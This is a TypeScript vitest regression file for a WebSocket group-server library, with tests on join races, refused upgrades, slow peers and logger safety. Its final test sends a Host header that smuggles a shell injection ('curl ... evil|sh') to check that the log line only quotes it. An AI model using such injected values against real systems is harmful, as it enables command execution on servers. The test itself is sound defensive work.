// What two people found who tried to break the server, so that nobody finds it again.
import { once } from "node:events";
import { createServer } from "node:http";
import { connect } from "node:net";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { Channel } from "../../../src/channel/channel.ts";
import { MemoryAdapter } from "../../../src/channel/memory.ts";
import type { AdapterEvents } from "../../../src/channel/adapter.ts";
import { Connection, ConnectionGroup, Emitter, GroupManager, GroupServer, type Logger, WebSocketMiddleware } from "../../../src/index.ts";
import { concat } from "../../../src/wire/frames.ts";
import { FakeClock, FakeSocket } from "../../../src/testing/index.ts";

const undo: (() => unknown)[] = [];
const silent: Logger = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };

afterEach(async () => {
  for (const step of undo.splice(0).toReversed()) await step();
});

const UPGRADE = (path: string): string =>
  `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`;

/** A channel whose link can be taken away. */
class Breakable extends MemoryAdapter {
  events: AdapterEvents | undefined;
  override start(events: AdapterEvents): void {
    this.events = events;
    super.start(events);
  }
}

describe("joining a group that is here already", () => {
  it("is no barrier while the channel is down, and so waits for it, or fails after 5 s and is undone", async () => {
    const clock = new FakeClock();
    const adapter = new Breakable();
    const groups = new GroupManager({ clock, channel: new Channel(adapter, { clock }), logger: silent });
    const [first, second, third] = ["a", "b", "c"].map((id) => new Connection(id, "default", new FakeSocket()));
    for (const connection of [first, second, third]) groups.adopt(connection!);
    await first!.join("g");
    adapter.events?.down(new Error("gone"));

    const failing = second!.join("g");
    let joined = false;
    await clock.advanceAsync(3_000);
    const waiting = third!.join("g").then(() => (joined = true));
    await clock.advanceAsync(2_000);
    await expect(failing).rejects.toMatchObject({ code: "unavailable", retry: true });
    expect([...(groups.get("g") ?? [])].map(({ id }) => id)).toEqual(["a", "c"]);
    expect(joined).toBe(false);
    adapter.events?.up();
    await waiting;
    expect(joined).toBe(true);
  });
});

describe("a refused upgrade", () => {
  it("leaves no socket behind, even if its peer keeps its side open, and close() does not wait for it", async () => {
    const server = new GroupServer({ port: 0, logger: silent });
    const { port } = await server.listen();
    const peers = await Promise.all(
      Array.from({ length: 20 }, async () => {
        const peer = connect({ port, host: "127.0.0.1", allowHalfOpen: true });
        peer.on("error", () => {});
        peer.write(UPGRADE("/nowhere"));
        peer.resume();
        await once(peer, "end");
        return peer;
      }),
    );
    await server.close();
    for (const peer of peers) peer.destroy();
  });

  it("is answered also when two of ours share a server and neither wants it", async () => {
    const http = createServer();
    new WebSocketMiddleware().attach(http, { path: "/a" });
    const second = new GroupServer({ logger: silent });
    second.attach(http, { path: "/b" });
    http.listen(0, "127.0.0.1");
    await once(http, "listening");
    undo.push(() => http.close());
    const { port } = http.address() as AddressInfo;
    const statusOf = async (path: string): Promise<string> => {
      const peer = connect(port, "127.0.0.1");
      peer.write(UPGRADE(path));
      const [answer] = (await once(peer, "data")) as [Buffer];
      peer.destroy();
      return answer.toString().slice(9, 12);
    };
    expect([await statusOf("/a"), await statusOf("/b"), await statusOf("/b/ws/none"), await statusOf("/nope")]).toEqual([
      "101",
      "101",
      "404",
      "404",
    ]);
    http.on("upgrade", (request, socket) => {
      if (request.url === "/theirs") socket.end("HTTP/1.1 418 I'm a teapot\r\n\r\n");
    });
    expect(await statusOf("/theirs")).toBe("418");
  });
});

describe("listen and close", () => {
  it("do not cross: a server that was closed meanwhile does not listen, and listening twice is listening once", async () => {
    const server = new GroupServer({ port: 0, logger: silent });
    const listening = server.listen();
    expect(server.listen()).toBe(listening);
    await server.close();
    await expect(listening).rejects.toMatchObject({ code: "closed" });
    await expect(new GroupServer({ port: 0, logger: silent }).close()).resolves.toBeUndefined();

    const middleware = new WebSocketMiddleware();
    await middleware.close();
    expect(() => middleware.accept(new FakeSocket())).toThrow(expect.objectContaining({ code: "closed" }));
  });
});

describe("the memory of a slow peer", () => {
  it("does not hold the large buffer that a small message came in", () => {
    const chunk = new Uint8Array(64 * 1024);
    expect(concat([chunk.subarray(100, 200)], 100).buffer.byteLength).toBe(100);
    expect(concat([chunk.subarray(0, 20_000)], 20_000).buffer).toBe(chunk.buffer);
  });

  it("has a bound within one turn, too: a loop that sends until it may not ends", () => {
    const socket = new FakeSocket({ stream: true });
    const connection = new Connection("a", "default", socket);
    socket.stall();
    let sent = 0;
    while (connection.send("x".repeat(60_000))) sent++;
    expect(sent * 60_000).toBeGreaterThan(1024 * 1024);
    expect(socket.bufferedAmount).toBeLessThan(17 * 1024 * 1024);
  });
});

describe("a peer that is not read, or reads slowly", () => {
  it("is not taken for dead while its socket is paused, and has its time again afterwards", () => {
    const socket = new FakeSocket();
    socket.answersPing = false;
    const connection = new Connection("a", "default", socket);
    connection.$pauseReading();
    connection.$ping();
    expect(connection.$answered).toBe(true);
    connection.$resumeReading();
    connection.$ping();
    expect(connection.$answered).toBe(false);
    connection.$resumeReading();
    expect(connection.$answered).toBe(true);
  });

  it("is told slow before drain, or neither", async () => {
    const clock = new FakeClock();
    const groups = new GroupManager({ clock });
    const socket = new FakeSocket({ stream: true });
    const connection = new Connection("a", "default", socket);
    const other = new Connection("b", "default", new FakeSocket());
    for (const one of [connection, other]) groups.adopt(one);
    const told: string[] = [];
    connection.on("slow", () => told.push("slow"));
    connection.on("drain", () => told.push("drain"));
    connection.setGroup("g");
    socket.stall();
    await groups.publish("g", "x".repeat(200_000));
    other.setGroup("g"); // writes what is pending, and tells later
    socket.flow();
    await clock.advanceAsync(10);
    expect(told).toEqual([]);
    socket.stall();
    await groups.publish("g", "x".repeat(200_000));
    await clock.advanceAsync(10);
    socket.flow();
    expect(told).toEqual(["slow", "drain"]);
  });
});

describe("names in a subclass", () => {
  it("are free: a group with a push, and a connection with open and ping, work as any other", async () => {
    class Room extends ConnectionGroup {
      readonly changes: string[] = [];
      push(change: string): void {
        this.changes.push(change);
      }
      flush(): void {}
      add(): void {}
      end(): void {}
    }
    class Player extends Connection {
      open = false;
      ping = 5;
      deliver(): void {}
    }
    const groups = new GroupManager({ implementation: { createGroup: (name, namespace) => new Room(name, namespace) } });
    const socket = new FakeSocket();
    const player = new Player("a", "default", socket);
    groups.adopt(player);
    await player.join("g");
    await groups.publish("g", "hello");
    await new Promise((resolve) => setImmediate(resolve));
    expect(socket.sent).toEqual(["hello"]);
    player.leave("g");
    expect(groups.size).toBe(0);
  });
});

describe("a logger that throws", () => {
  it("harms nobody", () => {
    class Loud extends Emitter<{ error: [error: Error]; event: [] }> {
      protected override unheard(): void {
        throw new Error("the disk is full");
      }
    }
    const loud = new Loud();
    loud.on("event", () => {
      throw new Error("a bug");
    });
    expect(() => loud.emit("event")).not.toThrow();
    expect(() => loud.emit("error", new Error("x"))).not.toThrow();
  });
});

describe("what a log line says of strangers", () => {
  it("has nothing in it that a shell would run", async () => {
    const lines: string[] = [];
    const server = new GroupServer({ port: 0, logger: { ...silent, warn: (_facts, text) => void lines.push(text) } });
    const { port } = await server.listen();
    undo.push(() => server.close());
    const peer = connect(port, "127.0.0.1");
    peer.write("GET / HTTP/1.1\r\nHost: x;curl${ifs}evil|sh;#\r\nConnection: close\r\n\r\n");
    peer.resume();
    await once(peer, "close");
    expect(lines).toEqual(['refused a request for host "x;curl${ifs}evil|sh;#": allow it with --allow-host HOST']);
    expect(() => new Connection("a\nb", "default", new FakeSocket())).toThrow(expect.objectContaining({ code: "bad_option" }));
  });
});
